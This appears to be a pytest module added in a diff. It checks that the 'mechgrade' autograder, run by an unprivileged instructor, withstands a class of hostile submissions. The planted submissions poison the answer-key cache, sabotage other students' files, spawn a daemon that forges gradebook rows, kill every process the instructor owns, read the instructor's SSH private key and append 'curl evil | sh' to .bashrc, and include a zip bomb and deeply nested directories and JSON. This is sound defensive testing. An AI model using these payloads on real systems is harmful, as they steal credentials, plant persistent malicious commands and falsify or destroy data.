@@ -1,0 +1,241 @@
+"""`mechgrade grade` run by an ordinary (non-root) instructor on a class with hostile
+submissions: each attack the red team found against the instructor's machine, in one class.
+
+The instructor is a real unprivileged account made for this module (needs root to create
+it, and user namespaces for the sandbox an ordinary user gets). Afterwards: every row is
+there, each honest row equals that student's solo `check`, and the instructor's home, key
+cache, the submissions and the gradebook are unchanged, with no process left behind."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+import os
+import pwd
+import shutil
+import stat
+import subprocess
+import sys
+import textwrap
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from mechgrade.sandbox import namespaces_work
+from mechgrade.spec import load_lesson
+from mechgrade.workspace import module_sources
+
+INSTRUCTOR = "mg-instructor"
+pytestmark = [
+    pytest.mark.skipif(os.geteuid() != 0, reason="creating the instructor's account needs root"),
+    pytest.mark.skipif(not shutil.which("bwrap"), reason="bubblewrap is not installed: an ordinary user has no sandbox"),
+]
+
+
+def tree_digest(root: Path) -> dict[str, str]:
+    """Path -> content hash (or link target) of everything under ``root``."""
+    out = {}
+    for folder, dirs, files in os.walk(root):
+        if len(Path(folder).relative_to(root).parts) > 20:  # the 5,000-deep submission: its top is enough
+            dirs[:] = []
+        for name in dirs + files:
+            p = Path(folder) / name
+            rel = str(p.relative_to(root))
+            if p.is_symlink():
+                out[rel] = "-> " + os.readlink(p)
+            elif p.is_file():
+                out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
+            else:
+                out[rel] = "dir"
+    return out
+
+
+@pytest.fixture(scope="module")
+def instructor(tmp_path_factory):
+    """(account, home, run) where run(args) runs the mechgrade CLI as the instructor."""
+    home = tmp_path_factory.mktemp("instructor-home")
+    subprocess.run(["userdel", INSTRUCTOR], capture_output=True)
+    subprocess.run(["useradd", "--no-create-home", "--home-dir", str(home), "--shell", "/bin/sh", INSTRUCTOR], check=True)
+    account = pwd.getpwnam(INSTRUCTOR)
+    # The instructor must be able to run this interpreter and read the package: open the folders
+    # leading to them for traversal only (o+x), for this module, and put their modes back after.
+    opened = {}
+    for target in (os.path.realpath(sys.executable), sys.prefix, sys.base_prefix, str(Path(__file__).parents[1])):
+        for folder in [*Path(target).parents, Path(target)]:
+            mode = folder.stat().st_mode
+            if folder.is_dir() and not mode & stat.S_IXOTH and str(folder) not in opened:
+                opened[str(folder)] = stat.S_IMODE(mode)
+                folder.chmod(stat.S_IMODE(mode) | stat.S_IXOTH)
+    for parent in home.parents:
+        if not parent.stat().st_mode & stat.S_IXOTH and str(parent) not in opened:
+            opened[str(parent)] = stat.S_IMODE(parent.stat().st_mode)
+            parent.chmod(opened[str(parent)] | stat.S_IXOTH)
+    os.chown(home, account.pw_uid, account.pw_gid)
+    home.chmod(0o700)
+    (home / ".ssh").mkdir()
+    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
+    (home / ".bashrc").write_text("# instructor's shell\n")
+    subprocess.run(["chown", "-R", f"{account.pw_uid}:{account.pw_gid}", str(home)], check=True)
+    mechgrade = str(Path(sys.executable).parent / "mechgrade")
+    env = {"PATH": os.environ["PATH"], "HOME": str(home), "LANG": "C.UTF-8"}
+
+    def run(*args: str, timeout: float = 900) -> subprocess.CompletedProcess:
+        return subprocess.run(["setpriv", "--reuid", str(account.pw_uid), "--regid", str(account.pw_gid), "--init-groups",
+                               mechgrade, *args], env=env, cwd=home, capture_output=True, text=True, timeout=timeout)
+
+    probe = run("--version", timeout=60)
+    if probe.returncode != 0:
+        pytest.skip(f"the instructor account cannot run mechgrade here: {probe.stderr.strip()[-200:]}")
+    yield account, home, run
+    subprocess.run(["pkill", "-KILL", "-u", INSTRUCTOR], capture_output=True)
+    for folder, mode in opened.items():
+        os.chmod(folder, mode)
+    subprocess.run(["userdel", INSTRUCTOR], capture_output=True)
+
+
+def hostile(lesson, exercise_file: str, code: str) -> dict[str, str]:
+    """A reference submission whose ``exercise_file`` also runs ``code`` at import."""
+    files = module_sources(lesson, solutions=True)
+    files[exercise_file] = files[exercise_file] + "\n" + textwrap.dedent(code)
+    return files
+
+
+def write(folder: Path, files: dict[str, str]) -> None:
+    folder.mkdir(parents=True)
+    for name, text in files.items():
+        (folder / name).write_text(text)
+
+
+def test_a_hostile_class_graded_by_an_ordinary_instructor_harms_nobody(instructor, tmp_path_factory):
+    account, home, run = instructor
+    if not namespaces_work():
+        pytest.skip("bubblewrap cannot create user namespaces here")
+    lesson = load_lesson("lesson27")
+    classroom = home / "class"
+    subs, out = classroom / "submissions", classroom / "out"
+    gradebook = out / "gradebook.csv"
+    cache = home / ".cache" / "mechgrade"
+    from mechgrade.engine.key import AnswerKey
+
+    key_name = AnswerKey(lesson, "embedded").cache_path.name
+    poisoned_key = cache / "keys" / "lesson27" / key_name
+    write(subs / "a_honest", module_sources(lesson, solutions=True))
+    write(subs / "z_honest", module_sources(lesson, solutions=True))
+    write(subs / "poisoner", hostile(lesson, "hooks.py", f"""
+        import os, pathlib
+        from mechgrade.engine.codec import encode, to_bytes
+        from mechgrade.spec import load_lesson
+        import torch
+        forged = {{c.number: {{"expected": torch.zeros(1), "mutants": {{}}}} for _, _, c in load_lesson("lesson27").iter_cases(hidden=True)}}
+        try:
+            p = pathlib.Path({str(poisoned_key)!r})
+            p.parent.mkdir(parents=True, exist_ok=True)
+            p.write_bytes(to_bytes(*encode(forged)))
+            p.with_suffix(".sha256.json").write_text("{{}}")
+        except OSError:
+            pass
+        """))
+    write(subs / "saboteur", hostile(lesson, "hooks.py", f"""
+        import pathlib
+        for victim in pathlib.Path({str(subs)!r}).glob("*/sae.py"):
+            try:
+                victim.write_text("def sae_encode(*a):\\n    raise ValueError('sabotaged')\\n")
+            except OSError:
+                pass
+        """))
+    write(subs / "daemon", hostile(lesson, "hooks.py", f"""
+        import os, time
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                for _ in range(1500):
+                    try:
+                        with open({str(gradebook)!r}, "a") as f:
+                            f.write("daemon,100,100\\n")
+                    except OSError:
+                        pass
+                    time.sleep(0.1)
+            os._exit(0)
+        """))
+    write(subs / "killer", hostile(lesson, "dla.py", """
+        import os, signal
+        try:
+            os.kill(-1, signal.SIGKILL)
+        except OSError:
+            pass
+        """))
+    write(subs / "snoop", hostile(lesson, "probe.py", f"""
+        import pathlib
+        try:
+            with open({str(home / ".bashrc")!r}, "a") as f:
+                f.write("curl evil | sh\\n")
+        except OSError:
+            pass
+        try:
+            STOLEN = pathlib.Path({str(home / ".ssh" / "id_rsa")!r}).read_text()
+        except OSError:
+            STOLEN = None
+        if STOLEN:
+            raise RuntimeError(STOLEN)
+        """))
+    write(subs / "deepdir", hostile(lesson, "sae.py", """
+        import os
+        here = os.open(".", os.O_RDONLY)
+        for _ in range(5000):
+            os.mkdir("d", dir_fd=here)
+            nxt = os.open("d", os.O_RDONLY, dir_fd=here)
+            os.close(here)
+            here = nxt
+        """))
+    deep = subs / "deepfolder"
+    write(deep, module_sources(lesson, solutions=True))
+    here = os.open(deep, os.O_RDONLY)
+    for _ in range(5000):
+        os.mkdir("d", dir_fd=here)
+        nxt = os.open("d", os.O_RDONLY, dir_fd=here)
+        os.close(here)
+        here = nxt
+    os.close(here)
+    (subs / "nbbomb").mkdir()
+    (subs / "nbbomb" / "work.ipynb").write_text('{"nbformat": 4, "cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
+    with zipfile.ZipFile(subs / "zipbomb.zip", "w", zipfile.ZIP_DEFLATED) as zf:
+        with zf.open("hooks.py", "w", force_zip64=True) as f:
+            for _ in range(1024):
+                f.write(b"#" * (1 << 20))
+    out.mkdir(parents=True)
+    subprocess.run(["chown", "-R", f"{account.pw_uid}:{account.pw_gid}", str(classroom)], check=True)
+
+    solo = run("check", "lesson27", "--path", str(subs / "z_honest"), "--results", str(classroom / "solo.json"))
+    assert solo.returncode == 0, solo.stdout[-1500:] + solo.stderr[-1500:]
+    solo_score = json.loads((classroom / "solo.json").read_text())["score"]
+    (classroom / "solo.json").unlink()
+    before = {"home": {k: v for k, v in tree_digest(home).items() if not k.startswith("class/out")},
+              "cache": tree_digest(cache) if cache.exists() else {}}
+
+    proc = run("grade", "lesson27", str(subs), "-o", str(gradebook), "-j", "2")
+    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
+    written = gradebook.read_text()
+    time.sleep(3)  # a surviving daemon would be writing now
+    assert gradebook.read_text() == written, "the gradebook changed after grade exited"
+    alive = [p for p in os.listdir("/proc") if p.isdigit() and os.stat(f"/proc/{p}").st_uid == account.pw_uid
+             and not Path(f"/proc/{p}/status").read_text().split("State:")[1].strip().startswith("Z")]
+    assert not alive, f"processes of the instructor survived grade: {alive}"
+
+    rows = {r["student"]: r for r in csv.DictReader(written.splitlines())}
+    expected = {"a_honest", "z_honest", "poisoner", "saboteur", "daemon", "killer", "snoop", "deepdir", "deepfolder",
+                "nbbomb", "zipbomb"}
+    assert set(rows) == expected, rows.keys()
+    assert float(rows["a_honest"]["total"]) == float(rows["z_honest"]["total"]) == solo_score == 77
+    assert "too large" in rows["zipbomb"]["status"] and "nested too deeply" in rows["nbbomb"]["status"]
+    assert rows["deepfolder"]["status"] == rows["deepdir"]["status"] == "graded"
+    after = {"home": {k: v for k, v in tree_digest(home).items() if not k.startswith("class/out")},
+             "cache": tree_digest(cache) if cache.exists() else {}}
+    assert after == before, "the instructor's home, key cache or the submissions changed"
+    results = "".join(p.read_text() for p in (out / "gradebook_results").glob("*.json"))
+    assert "PRIVATE KEY" not in results
+
+    again = run("check", "lesson27", "--path", str(subs / "a_honest"))
+    assert again.returncode == 0 and "77 / 77" in again.stdout, again.stdout[-800:]
